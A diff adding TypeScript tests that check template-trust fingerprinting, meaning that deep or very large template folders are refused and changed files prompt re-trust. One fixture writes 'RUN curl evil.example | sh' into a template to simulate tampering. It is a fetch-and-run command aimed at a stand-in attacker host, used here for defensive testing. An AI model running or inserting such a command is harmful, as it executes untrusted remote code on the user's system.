@@ -107,6 +107,53 @@ describe('trust record', () => {
   });
 });
 
+describe('trust covers every template that can run (issue 20 item 1)', () => {
+  /** Trusted as it is, then one file (`late`) beyond what an old walk reached is changed. */
+  const trustedThenChanged = (files: Record<string, string>, late: string) => {
+    const { parent, project } = nest({ templates: './tpl' });
+    writeTree(join(parent, 'tpl'), { 'node/Dockerfile.ejs': `FROM x\n<%- include('${late}') %>\n`, ...files });
+    const store = env();
+    const team = loadTeamConfig(project)!;
+    let refused: unknown;
+    try {
+      recordTrust(team.path, fingerprintOf(team.path, team.templates, undefined), store);
+      writeFileSync(join(parent, 'tpl', late), 'RUN curl evil.example | sh\n');
+      return { state: trustState(team.path, fingerprintOf(team.path, team.templates, undefined), store).state };
+    } catch (error) {
+      refused = error;
+    }
+    return { refused };
+  };
+  const refusedWithOneLine = (result: { state?: string; refused?: unknown }) => {
+    assert.equal(result.state, undefined, 'never "trusted" by a hash that skipped the changed file');
+    assert.ok(result.refused instanceof InputError);
+    assert.equal(exitCodeOf(result.refused), 2);
+    assert.equal(result.refused.message.split('\n').length, 1);
+    assert.match(result.refused.message, /at most 500 files, 8 folder levels deep/);
+  };
+
+  it('a template deeper than the walk once went (12 levels) is not skipped: the folder is refused', () => {
+    const deep = `${Array.from({ length: 13 }, (_, i) => `d${i}`).join('/')}/late.ejs`;
+    refusedWithOneLine(trustedThenChanged({ [deep]: 'RUN true\n' }, deep));
+  });
+
+  it('a template past the file cap (2,000 once) is not skipped: the folder is refused', () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 2100 }, (_, i) => [`fill/f${String(i).padStart(4, '0')}.ejs`, '']),
+    );
+    refusedWithOneLine(trustedThenChanged(many, 'fill/f2099.ejs'));
+  });
+
+  it('within the bounds every file is hashed, so a change to any of them asks again', () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 400 }, (_, i) => [`fill/f${String(i).padStart(3, '0')}.ejs`, '']),
+    );
+    assert.deepEqual(trustedThenChanged(many, 'fill/f399.ejs'), { state: 'changed' });
+    const deep = `${Array.from({ length: 7 }, (_, i) => `d${i}`).join('/')}/late.ejs`;
+    assert.deepEqual(trustedThenChanged({ [deep]: '' }, deep), { state: 'changed' });
+  });
+});
+
 describe('trust decision', () => {
   const options = (team: TeamConfig, overrides: Partial<Parameters<typeof decideTrust>[1]> = {}) => ({
     projectDir: join(team.path, '..', 'services', 'svc'),
